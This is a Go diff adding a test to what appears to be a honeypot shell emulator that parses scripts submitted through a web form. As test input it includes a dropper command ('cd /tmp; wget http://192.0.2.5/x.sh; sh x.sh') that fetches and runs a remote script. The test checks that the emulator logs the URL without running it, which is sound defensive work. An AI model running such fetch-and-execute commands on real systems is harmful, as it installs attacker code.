@@ -147,3 +147,27 @@ func TestShellAPIStates(t *testing.T) {
 		t.Errorf("^C then ls: %q", l)
 	}
 }
+
+// TestRunScript: a transport without a prompt (a web form) runs text as
+// sh -c does: an unfinished line is a syntax error, a here-document ends
+// with the text.
+func TestRunScript(t *testing.T) {
+	d := newTestDevice(t, DefaultProfile(), Limits{})
+	sh := d.NewShell(context.Background())
+	defer sh.Close()
+	if r := sh.RunScript(`echo "open`); r.Continue || string(r.Output) != "sh: syntax error: unterminated quoted string\n" {
+		t.Errorf("open quote: %+v", r)
+	}
+	if r := sh.RunScript("cat <<EOF\nbody"); string(r.Output) != "body\n" {
+		t.Errorf("here-document to the end: %q", r.Output)
+	}
+	// A syntax error runs nothing; the URL is still intel, not run.
+	r := sh.RunScript(";cd /tmp; wget http://192.0.2.5/x.sh; sh x.sh")
+	if len(r.Downloads) != 1 || r.Downloads[0].Ran || !strings.HasPrefix(string(r.Output), "sh: syntax error") {
+		t.Errorf("leading ; : %+v", r)
+	}
+	r = sh.RunScript("cd /tmp; wget http://192.0.2.5/x.sh; sh x.sh")
+	if len(r.Downloads) != 1 || r.Downloads[0].URL != "http://192.0.2.5/x.sh" || sh.Waiting() {
+		t.Errorf("injection: %+v", r)
+	}
+}
